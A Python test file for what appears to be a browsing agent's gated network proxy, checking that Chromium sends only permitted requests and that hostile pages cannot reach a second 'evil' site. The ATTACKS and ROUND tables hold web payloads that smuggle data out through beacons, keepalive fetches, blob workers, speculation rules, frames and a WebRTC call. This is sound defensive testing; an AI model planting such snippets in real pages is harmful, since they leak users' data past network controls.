"""The proxy by which Chromium reaches servers: what has a permit leaves, once, and nothing else."""

from __future__ import annotations

import socket
import ssl
import threading
import time
from collections.abc import Iterator
from contextlib import closing, contextmanager
from http.client import HTTPConnection, RemoteDisconnected
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from adwright.agent.drivers.chromium import ChromiumBrowser, ChromiumDriver
from adwright.agent.drivers.protocol import DriverError, GateDecision, PendingRequest, SeenRequest
from adwright.agent.drivers.way_out import GatedNetwork, WayOut, way_out
from adwright.agent.explore.explorer import ReadingGate
from adwright.core.clock import FixedClock, SystemClock
from tests.support.agent.site.browsing import chromium_or_skip, node_of
from tests.support.agent.site.pages import page
from tests.support.agent.site.server import SmallSite, small_site

Asked = list[tuple[str, str, int]]


class Echo(BaseHTTPRequestHandler):
    """Counts what comes; answers in pieces, and a page that posts a large body."""

    protocol_version = "HTTP/1.1"
    asked: Asked

    def log_message(self, *_: object) -> None:
        """Nothing."""

    def do_GET(self) -> None:
        size = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(size)
        self.asked.append((self.command, self.path, size))
        if self.headers.get("Upgrade") == "websocket":
            self.wfile.write(b"HTTP/1.1 101 Switching\r\n\r\n" + self.rfile.read(4))
            self.close_connection = True
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Set-Cookie", "a=1")
        self.send_header("Set-Cookie", "b=2")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        script = "<script>fetch('/big', {method: 'POST', body: 'x'.repeat(3e5)})</script>"
        self.wfile.write(b"3\r\nTea\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(script), script.encode()))

    do_POST = do_GET


@contextmanager
def served(context: ssl.SSLContext | None = None) -> Iterator[tuple[int, Asked]]:
    asked: Asked = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("_", (Echo,), {"asked": asked}))
    server.daemon_threads = True
    if context is not None:
        server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,))
    thread.start()
    try:
        yield server.server_port, asked
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.fixture
def way() -> Iterator[WayOut]:
    with way_out({"shop.example": "127.0.0.1", "127.0.0.1": "127.0.0.1"}, SystemClock()) as way:
        yield way


def through(way: WayOut, method: str, url: str, body: bytes | None = None) -> tuple[bytes, object]:
    with closing(HTTPConnection(way.url.removeprefix("http://"), timeout=10)) as connection:
        connection.request(method, url, body)
        answer = connection.getresponse()
        return answer.read(), answer.headers.get_all("Set-Cookie")


def test_a_permit_is_for_one_request_of_one_body(way: WayOut) -> None:
    with served() as (port, asked):
        url = f"http://shop.example:{port}/offers?a=1"
        way.permit("GET", f"{url}#top")
        body, cookies = through(way, "GET", url)
        assert body.startswith(b"Tea<script>")
        assert cookies == ["a=1", "b=2"]
        way.permit("POST", url, b"x=1")
        for method, other in (("GET", None), ("POST", b"x=2"), ("PUT", b"x=1"), ("POST", None)):
            with pytest.raises(RemoteDisconnected):
                through(way, method, url, other)
        through(way, "POST", url, b"x=1")
        with pytest.raises(RemoteDisconnected):
            through(way, "POST", url, b"x=1")
        assert asked == [("GET", "/offers?a=1", 0), ("POST", "/offers?a=1", 3)]
        assert [one for one, _ in way.take_refused()] == ["GET", "POST", "PUT", "POST", "POST"]
        assert way.take_refused() == []


def test_permits_lapse_and_hosts_are_those_that_were_checked(way: WayOut) -> None:
    clock = FixedClock()
    with served() as (port, asked), way_out({}, clock) as other:
        url = f"http://127.0.0.1:{port}/"
        other.permit("GET", url)
        clock.advance(61)
        way.permit("GET", url)
        way.clear()
        way.permit("GET", f"http://localhost:{port}/")
        for one, host in ((other, "127.0.0.1"), (way, "127.0.0.1"), (way, "localhost")):
            with pytest.raises(RemoteDisconnected):
                through(one, "GET", f"http://{host}:{port}/")
        assert asked == []
        assert "localhost is not among the hosts" in way.failure


def test_a_socket_is_let_through_as_it_is(way: WayOut) -> None:
    with served() as (port, _):
        for is_permitted in (True, False):
            if is_permitted:
                way.permit("GET", f"ws://127.0.0.1:{port}/live")
            proxy = way.url.rpartition(":")[2]
            with socket.create_connection(("127.0.0.1", int(proxy)), 10) as client:
                client.sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % port)
                assert client.recv(100).startswith(b"HTTP/1.1 200")
                client.sendall(b"GET /live HTTP/1.1\r\nUpgrade: websocket\r\n\r\n")
                client.sendall(b"ping")
                found = b"".join(iter(lambda to=client: to.recv(100), b""))  # type: ignore[misc]
                assert found == (b"HTTP/1.1 101 Switching\r\n\r\nping" if is_permitted else b"")


def test_what_is_encrypted_is_asked_about_and_its_server_checked(
    way: WayOut, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    def allowed(request: object) -> GateDecision:
        return GateDecision(True)

    with chromium_or_skip() as browser, served(way.context("localhost")) as (port, asked):
        url = f"https://localhost:{port}/"
        with (
            browser.driver(allowed) as driver,
            pytest.raises(DriverError, match="does not open") as refused,
        ):
            driver.open(url)
        assert "certificate verify failed" in refused.value.where
        assert asked == []
        certificate = tmp_path / "authority.pem"
        certificate.write_text(ssl.get_server_certificate(("localhost", port)))
        monkeypatch.setenv("SSL_CERT_FILE", str(certificate))
        with browser.driver(allowed) as driver:
            driver.open(url)
            assert driver.observe().url == url
            assert driver.fetch(url).body.startswith(b"Tea")
            assert [one for one in asked if "icon" not in one[1]] == [
                *(("GET", "/", 0), ("POST", "/big", 300_000), ("GET", "/", 0))
            ]
            assert [one for one in driver.requests() if not one.decision.allowed] == []


@pytest.fixture(scope="module")
def sites() -> Iterator[tuple[SmallSite, SmallSite]]:
    with small_site() as home, small_site() as evil:
        yield home, evil


#: What a hostile page does by itself or when its button is tapped; {evil} is the other site.
ATTACKS = {
    "image": '<img src="{evil}/x.png">',
    "script": '<script src="{evil}/x.js"></script>',
    "style": '<link rel="stylesheet" href="{evil}/x.css">',
    "frame": '<iframe src="{evil}/x"></iframe>',
    "prefetch": '<link rel="prefetch" href="{evil}/x"><link rel="preconnect" href="{evil}">',
    "fetch": "<script>fetch('{evil}/x').catch(() => 0)</script>",
    "write": "<script>fetch('/offers/1', {{method: 'POST', body: 'x'}}).catch(() => 0)</script>",
    "beacon": "<script>navigator.sendBeacon('/offers/1', 'x')</script>",
    "beacon away": "<script>navigator.sendBeacon('{evil}/x', 'x')</script>",
    "socket": "<script>new WebSocket('{socket}/x')</script>",
    "refresh": '<meta http-equiv="refresh" content="0;url={evil}/x">',
    "navigation": "<script>location.href = '{evil}/x'</script>",
    "form": '<form id="f" action="/offers/1" method="post"></form><script>f.submit()</script>',
    "put": "<script>fetch('/offers/1', {{method: 'PUT'}}).catch(() => 0)</script>",
    "worker": "<script>navigator.serviceWorker?.register('/sw.js').catch(() => 0)</script>",
    "redirect": '<img src="/leads-away"><iframe src="/leads-away"></iframe>',
    "events": "<script>new EventSource('{evil}/x')</script>",
    "data frame": "<iframe src=\"data:text/html,<img src='{evil}/x'>\"></iframe>",
    "blob frame": "<iframe id=b></iframe><script>b.src = URL.createObjectURL(new Blob([`<img src="
    "'{evil}/x'>`], {{type: 'text/html'}}))</script>",
    "inner frame": "<iframe srcdoc=\"<script>fetch('{evil}/x')</script>\"></iframe>",
    "popup": "<button onclick=\"window.open('{evil}/x')\">Go on</button>",
    "own popup": "<button onclick=\"window.open('/secret')\">Go on</button>",
    "blank": '<a href="{evil}/x" target="_blank" rel="opener">Go on</a>',
    "ping": '<a href="#here" ping="{evil}/x">Go on</a>',
    "script link": "<a href=\"javascript:fetch('{evil}/x')\">Go on</a>",
    "download": '<a href="{evil}/x" download>Go on</a>',
    "posting link": '<form action="{evil}/x" method="post"><button>Go on</button></form>',
}


@pytest.fixture(scope="module")
def driver(
    chromium: ChromiumBrowser, sites: tuple[SmallSite, SmallSite]
) -> Iterator[ChromiumDriver]:
    home, evil = sites
    home.redirects["/leads-away"] = f"{evil.url}/x"
    home.redirects["/leads-home"] = "/offers"
    with chromium.driver(ReadingGate((home.url,))) as driver:
        yield driver


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_leaves(
    driver: ChromiumDriver, sites: tuple[SmallSite, SmallSite], name: str
) -> None:
    home, evil = sites
    socket = evil.url.replace("http", "ws")
    home.extra["/hostile"] = page("Hostile", ATTACKS[name].format(evil=evil.url, socket=socket))
    driver.open(f"{home.url}/hostile")
    screen = driver.observe()
    for node in screen.nodes:
        if node.name == "Go on":
            try:
                driver.tap(node)
            except DriverError:
                assert name in ("blank", "download")
    screen = driver.observe()
    assert evil.asked == []
    assert evil.written == home.written == []
    assert "/secret" not in home.asked
    assert screen.url.startswith(f"{home.url}/hostile")
    refused = [one for one in driver.requests() if not one.decision.allowed]
    silent = ("prefetch", "worker", "data frame", "blob frame", "ping", "download", "script link")
    assert refused or name in silent


_LEAVING = "<script>addEventListener('{on}', () => {{{{ {do} }}}})</script>"
_RULES = '<script type="speculationrules">{{{{"{kind}": [{{{{"source": "list", "urls": ["{url}"], '
_RULES += '"eagerness": "immediate"}}}}]}}}}</script>'
_FETCH = "fetch('{url}', {{{{method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'}}}})"
#: Ways that lead round a gate that sits in the page: they need no page, or outlive it.
ROUND = {
    "kept alive as hidden": _LEAVING.format(on="pagehide", do=_FETCH.format(url="/offers/1")),
    "kept alive away": _LEAVING.format(on="pagehide", do=_FETCH.format(url="{evil}/x")),
    "kept alive as seen no more": _LEAVING.format(
        on="visibilitychange", do=_FETCH.format(url="/offers/1")
    ),
    "beacon as hidden": _LEAVING.format(on="pagehide", do="navigator.sendBeacon('/offers/1', 'x')"),
    "beacon as unloaded": _LEAVING.format(
        on="beforeunload", do="navigator.sendBeacon('/offers/1', 'x')"
    ),
    "later": "<script>fetchLater('/offers/1', {{method: 'POST', body: 'x'}})</script>",
    "shared worker": "<script>new SharedWorker('/shared.js')</script>",
    "shared worker of a blob": "<script>new SharedWorker(URL.createObjectURL(new Blob(["
    + f'"{_FETCH.format(url="{home}/offers/1")}"'
    + "])))</script>",
    "worker": "<script>new Worker('/shared.js')</script>",
    "fetched ahead": _RULES.format(kind="prefetch", url="/secret"),
    "fetched ahead away": _RULES.format(kind="prefetch", url="{evil}/x"),
    "drawn ahead": _RULES.format(kind="prerender", url="/secret"),
    "drawn ahead, and writes": _RULES.format(kind="prerender", url="/writes"),
    "link drawn ahead": '<link rel="prerender" href="/secret"><link rel="prefetch" href="/secret">',
}


def go_round(chromium: ChromiumBrowser, home: SmallSite, evil: SmallSite, name: str) -> None:
    """Look at a page that tries so, leave it, look again, and close."""

    def filled(text: str) -> str:
        return text.format(evil=evil.url, home=home.url)

    write = filled(_FETCH.format(url="/offers/1"))
    home.extra |= {
        "/hostile": page("Hostile", filled(ROUND[name])),
        "/shared.js": f"{write}; {filled(_FETCH.format(url='{evil}/x'))}",
        "/writes": page("Writes", f"<script>{write}</script>"),
    }
    gate = ReadingGate((home.url,))

    def reads(request: PendingRequest) -> GateDecision:
        is_ahead = request.url.endswith(("/secret", "/writes"))
        return GateDecision(False, "ahead") if is_ahead else gate(request)

    for leaves in (True, False):
        with chromium.driver(reads) as driver:
            driver.open(f"{home.url}/hostile")
            driver.observe()
            if leaves:
                driver.open(f"{home.url}/offers")
                assert driver.observe().url == f"{home.url}/offers"
    time.sleep(0.3)


@pytest.mark.parametrize("name", ROUND)
def test_nothing_goes_round_the_gate(
    chromium: ChromiumBrowser, sites: tuple[SmallSite, SmallSite], name: str
) -> None:
    home, evil = sites
    go_round(chromium, home, evil, name)
    assert (home.written, evil.written, evil.asked) == ([], [], [])
    assert not {"/secret", "/writes"} & set(home.asked)


def test_each_step_of_a_redirect_is_asked_about(
    driver: ChromiumDriver, sites: tuple[SmallSite, SmallSite]
) -> None:
    home, evil = sites
    driver.requests()
    driver.open(f"{home.url}/leads-home")
    steps = [one for one in driver.requests() if one.request.kind in ("page", "redirect")]
    assert [(one.request.kind, one.request.url, one.status) for one in steps] == [
        ("page", f"{home.url}/leads-home", 302),
        ("redirect", f"{home.url}/offers", 200),
    ]
    assert steps[1].request.redirected_from == f"{home.url}/leads-home"
    with pytest.raises(DriverError, match="does not open"):
        driver.open(f"{home.url}/leads-away")
    with pytest.raises(DriverError, match="the gate refuses"):
        driver.fetch(f"{home.url}/leads-away")
    assert evil.asked == []


def test_a_gate_that_fails_says_no(
    chromium: ChromiumBrowser, sites: tuple[SmallSite, SmallSite]
) -> None:
    def broken(request: PendingRequest) -> None:
        raise RuntimeError(request.url)

    with chromium.driver(broken) as driver:  # type: ignore[arg-type]
        with pytest.raises(DriverError):
            driver.open(sites[0].url)
        (seen,) = driver.requests()
        assert isinstance(seen, SeenRequest)
        assert seen.decision.code == "gate_failed"


def test_what_is_sent_is_shown_to_the_gate(
    chromium: ChromiumBrowser, sites: tuple[SmallSite, SmallSite]
) -> None:
    home, _ = sites
    gate = ReadingGate((home.url,))
    with chromium.driver(gate) as driver:
        driver.open(f"{home.url}/offers/1")
        screen = driver.observe()
        driver.set_text(node_of(screen, "textbox", "Title"), "Green tea")
        driver.requests()
        driver.tap(node_of(screen, "button", "Save"))
        (seen,) = driver.requests()
        assert seen.request.fields == {
            **{"csrf_token": "1-now", "name": "Green tea"},
            **{"price": "3", "action": "Amount"},
        }
        assert (seen.request.method, seen.request.kind) == ("POST", "page")
        assert (seen.decision.code, seen.status) == ("method", 0)
        # The page stays what it was, with what was typed.
        again = driver.observe()
        assert node_of(again, "textbox", "Title").value == "Green tea"
    assert home.written == []
    assert GatedNetwork.__doc__


_CALLS = """<script>
const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{port}'}}]}});
peer.createDataChannel('x');
peer.createOffer().then(offer => peer.setLocalDescription(offer));
</script>"""


def test_what_needs_no_proxy_has_no_way_out(
    chromium: ChromiumBrowser, sites: tuple[SmallSite, SmallSite]
) -> None:
    home, _ = sites
    with closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as listens:
        listens.bind(("127.0.0.1", 0))
        listens.settimeout(1.5)
        home.extra["/hostile"] = page("Calls", _CALLS.format(port=listens.getsockname()[1]))
        with chromium.driver(ReadingGate((home.url,))) as driver:
            driver.open(f"{home.url}/hostile")
            driver.observe()
            with pytest.raises(TimeoutError):
                listens.recvfrom(100)
